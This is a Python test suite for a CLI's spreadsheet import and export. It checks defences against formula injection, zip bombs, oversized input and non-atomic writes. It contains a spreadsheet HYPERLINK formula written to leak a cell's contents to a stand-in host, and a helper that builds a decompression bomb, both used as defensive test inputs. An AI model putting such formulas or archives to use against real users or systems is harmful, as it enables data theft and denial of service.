"""Spreadsheets from outside are untrusted input, and what `kg export` writes is opened in Excel.

- No formula gets in or out: text cells of an XLSX export are text cells, CSV cells that Excel would
  run as formulas get a leading quote (which import takes off again exactly), and an XLSX formula
  cell is refused on import with its file, sheet, row and column;
- sizes are capped after decompression (a zip bomb is refused in a fraction of a second, in little
  memory), and so are cells and rows;
- an import of several tables replaces them together or not at all, even when killed (SIGKILL at
  every crash point of graph/faults.py), and leaves no temporary files.
"""
from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

import graph.load.spreadsheets.transfer as transfer
from graph.cli import app
from graph.config import PACKAGE_DATA_DIR
from graph.load.files import read_triples
from graph.load.spreadsheets import (MAX_CELL_CHARS, MAX_PARTS, MAX_ROWS, TABLES, TableFileError, export_tables, import_tables,
                           read_table_file, write_csv)

BASE = "https://w3id.org/hki/"
KG = Path(sys.executable).with_name("kg")
LEAK = '=HYPERLINK("http://127.0.0.1:9999/?leak="&A2,"Click")'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def shipped_rows(hannover) -> dict[str, list[dict[str, str]]]:
    """The rows of every shipped table."""
    return {table.name: result.rows for table, result in export_tables(hannover)}


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def statements(folder: Path) -> dict[str, set[ox.Triple]]:
    return {name: {q.triple for q in read_triples(folder / f"{name}.ttl")} for name in TABLES}


def kg(*args: str, data_dir: Path):
    return CliRunner().invoke(app, list(args), env={"HKI_DATA_DIR": str(data_dir), "COLUMNS": "300"})


def workbook_with(path: Path, tables: dict[str, list[dict[str, str]]], **cells: str) -> Path:
    """A workbook with a sheet of rows per table, as text cells (as Excel keeps "'=x" typed in a cell);
    `cells` (e.g. H3="…") are set afterwards in the first sheet as typed, so "=…" becomes a formula."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in tables.items():
        sheet = book.create_sheet(name)
        names = [c.name for c in TABLES[name].columns]
        sheet.append(names)
        for row in rows:
            sheet.append([row.get(n, "") for n in names])
        for line in sheet.iter_rows():
            for cell in line:
                cell.data_type = "s"
    for coordinate, value in cells.items():
        book.worksheets[0][coordinate] = value  # a text starting with "=" is a formula to openpyxl, as to Excel
    book.save(path)
    return path


# ------------------------------------------------------------------------------------------ formulas

def test_a_label_starting_with_equals_is_exported_as_text_not_as_a_formula_and_both_exports_import_back_unchanged(
        data_dir, shipped_rows, tmp_path):
    tricky = {"label_de": LEAK, "label_en": "+49 511 Hannover", "description_de": "-1 Grad",
              "description_en": "@SUM(A1:A9)", "note_de": "'s-Hertogenbosch", "note_en": "'=already quoted"}
    rows = [dict(shipped_rows["partnerships"][0], **tricky)] + shipped_rows["partnerships"][1:]
    source = workbook_with(tmp_path / "tables.xlsx", dict(shipped_rows, partnerships=rows))
    assert kg("import", str(source), data_dir=data_dir).exit_code == 0
    imported = statements(data_dir)
    labels = {t.object.value for t in imported["partnerships"]}
    assert set(tricky.values()) <= labels

    book = tmp_path / "out" / "hki.xlsx"
    assert kg("export", "xlsx", "--out", str(book), data_dir=data_dir).exit_code == 0
    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert ElementTree.fromstring(archive.read(name)).findall(f".//{{{MAIN}}}f") == [], name
    cells = {c.value: c.data_type for r in openpyxl.load_workbook(book)["partnerships"].iter_rows() for c in r}
    assert all(cells[value] == "s" for value in tricky.values())

    folder = tmp_path / "out" / "csv"
    assert kg("export", "csv", "--out", str(folder), data_dir=data_dir).exit_code == 0
    text = (folder / "partnerships.csv").read_text(encoding="utf-8-sig")
    fields = [f for line in csv.reader(io.StringIO(text, newline="")) for f in line]
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    assert "'" + LEAK in fields and "'s-Hertogenbosch" in fields and "''=already quoted" in fields

    for exported in ([book], sorted(folder.iterdir())):
        result = kg("import", *map(str, exported), data_dir=data_dir)
        assert result.exit_code == 0, result.output
        assert statements(data_dir) == imported, exported


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'s-Hertogenbosch", "'=x", "''+y", "plain", ""])
def test_csv_export_quotes_exactly_the_cells_excel_would_run_and_import_gives_back_the_same_text(tmp_path, text):
    row = {c.name: "" for c in TABLES["partnerships"].columns} | {"id": "a", "label_de": text}
    path = tmp_path / "partnerships.csv"
    write_csv(path, TABLES["partnerships"], [row])
    cell = next(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))["label_de"]
    assert cell == ("'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text)
    [(_, [back])] = read_table_file(path)
    assert back["label_de"] == text


def test_a_workbook_with_a_formula_cell_is_refused_with_file_sheet_row_and_column_and_nothing_is_written(
        city, data_dir, shipped_rows, tmp_path):
    before = snapshot(data_dir)
    path = workbook_with(tmp_path / "partnerships.xlsx", {"partnerships": shipped_rows["partnerships"]}, H3=LEAK)  # description_de
    report = import_tables(city, [path])
    assert report.written == [] and snapshot(data_dir) == before
    [error] = report.errors
    assert (error.source, error.row, error.column) == (f"{path}, sheet partnerships", 3, "H (description_de)")
    assert "a formula" in error.message and "type the text, or prefix it with an apostrophe in Excel" in error.message
    result = kg("import", str(path), data_dir=data_dir)
    assert result.exit_code == 1 and "nothing was written" in result.output and "H (description_de)" in result.output


# ------------------------------------------------------------------------------------------ sizes

def zip_bomb(path: Path, megabytes: int) -> Path:
    """A valid workbook whose one shared string is `megabytes` MiB of "A": about 1/1000 of that on disk."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{rel}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{rel}"><sheets><sheet name="partnerships" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{rel}/worksheet" '
        f'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{rel}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id'
        '</t></is></c><c r="B1" t="inlineStr"><is><t>label_de</t></is></c></row><row r="2"><c r="A2" t="inlineStr">'
        '<is><t>x</t></is></c><c r="B2" t="s"><v>0</v></c></row></sheetData></worksheet>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode())
            chunk = b"A" * (1 << 20)
            for _ in range(megabytes):
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return path


@pytest.mark.serial  # measures time: run alone (make test), not beside other tests
def test_a_small_workbook_that_unpacks_to_100_mib_is_refused_fast_in_little_memory_with_the_part_named(
        city, data_dir, tmp_path):
    bomb = zip_bomb(tmp_path / "partnerships.xlsx", 100)
    assert bomb.stat().st_size < 200_000
    tracemalloc.start()
    try:
        started = time.perf_counter()
        with pytest.raises(TableFileError) as refused:
            read_table_file(bomb)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "xl/sharedStrings.xml" in str(refused.value) and "32 MiB" in str(refused.value)
    assert elapsed < 3, f"{elapsed:.1f} s"
    assert peak < 16 << 20, f"{peak >> 20} MiB"
    before = snapshot(data_dir)
    [error] = import_tables(city, [bomb]).errors
    assert "xl/sharedStrings.xml" in error.message and snapshot(data_dir) == before


def test_a_workbook_of_more_than_1000_parts_is_refused(tmp_path):
    path = tmp_path / "partnerships.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for n in range(MAX_PARTS + 1):
            archive.writestr(f"xl/part{n}.xml", "<x/>")
    with pytest.raises(TableFileError, match=f"{MAX_PARTS + 1} parts in the workbook; at most {MAX_PARTS}"):
        read_table_file(path)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_cell_of_20000_characters_is_refused_with_row_and_column_and_nothing_is_written(
        city, data_dir, shipped_rows, tmp_path, suffix):
    rows = [dict(r) for r in shipped_rows["partnerships"]]
    rows[1]["description_de"] = "x" * 20_000
    path = tmp_path / f"partnerships{suffix}"
    if suffix == ".xlsx":
        workbook_with(path, {"partnerships": rows})
    else:
        write_csv(path, TABLES["partnerships"], rows)
    before = snapshot(data_dir)
    report = import_tables(city, [path])
    assert report.written == [] and snapshot(data_dir) == before
    [error] = report.errors
    assert (error.row, error.column) == (3, "H (description_de)")
    assert f"20,000 characters; a cell holds at most {MAX_CELL_CHARS:,}" in error.message


def test_the_longest_shipped_text_fits_a_cell_many_times_over(shipped_rows):
    longest = max(len(v) for rows in shipped_rows.values() for row in rows for v in row.values())
    assert longest * 10 < MAX_CELL_CHARS


def test_a_csv_file_of_more_than_100000_rows_is_refused_with_the_row(tmp_path):
    path = tmp_path / "partnerships.csv"
    path.write_text("id,label_de\n" + "a,b\n" * (MAX_ROWS + 1), encoding="utf-8")
    with pytest.raises(TableFileError, match=f"row {MAX_ROWS + 2}: more than 100,000 rows"):
        read_table_file(path)


# ------------------------------------------------------------------------------------------ all tables or none

POINTS = ["import:staging", "import:wrote-partnerships.ttl", "import:wrote-memberships.ttl",
          "import:wrote-measures.ttl", "import:before-swap", "import:swapped"]


@pytest.fixture(scope="module")
def changed_tables(shipped_rows, tmp_path_factory) -> tuple[Path, dict[str, str]]:
    """CSV files of all three tables, each with one label changed, and the data folder they make."""
    root = tmp_path_factory.mktemp("changed")
    tables = root / "tables"
    tables.mkdir()
    for name, rows in shipped_rows.items():
        rows = [dict(rows[0], label_en=rows[0]["label_en"] + " (changed)")] + rows[1:]
        write_csv(tables / f"{name}.csv", TABLES[name], rows)
    folder = root / "data"
    shutil.copytree(PACKAGE_DATA_DIR, folder)
    assert kg("import", *map(str, sorted(tables.iterdir())), data_dir=folder).exit_code == 0
    return tables, snapshot(folder)


@pytest.mark.parametrize("point", POINTS)
def test_an_import_of_three_tables_killed_at_any_point_leaves_all_old_or_all_new_tables_and_the_next_one_succeeds(
        changed_tables, data_dir, tmp_path, point):
    tables, new = changed_tables
    old = snapshot(data_dir)
    assert old != new
    clean = {k: v for k, v in os.environ.items() if not k.startswith("HKI_")}
    killed = subprocess.run([str(KG), "import", *map(str, sorted(tables.iterdir()))], capture_output=True, text=True,
                            timeout=300, cwd=tmp_path, env={**clean, "HKI_DATA_DIR": str(data_dir), "HKI_KILL_AT": point})
    assert killed.returncode == -signal.SIGKILL, killed.stderr[-2000:]
    assert snapshot(data_dir) == (new if point == "import:swapped" else old)  # the swap is the one atomic step
    again = kg("import", *map(str, sorted(tables.iterdir())), data_dir=data_dir)
    assert again.exit_code == 0, again.output
    assert snapshot(data_dir) == new
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"], "a killed import's copy was left behind"


def test_without_an_atomic_folder_swap_the_import_stops_with_a_clear_error_and_writes_nothing(
        city, data_dir, changed_tables, monkeypatch, tmp_path):
    tables, _ = changed_tables
    before = snapshot(data_dir)

    def unsupported(a: Path, b: Path) -> None:
        raise OSError(22, "Invalid argument", str(a))

    monkeypatch.setattr(transfer, "exchange", unsupported)
    report = import_tables(city, sorted(tables.iterdir()))
    assert report.written == [] and snapshot(data_dir) == before
    [error] = report.errors
    assert error.source == "data folder" and "in one step" in error.message and "RENAME_EXCHANGE" in error.message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
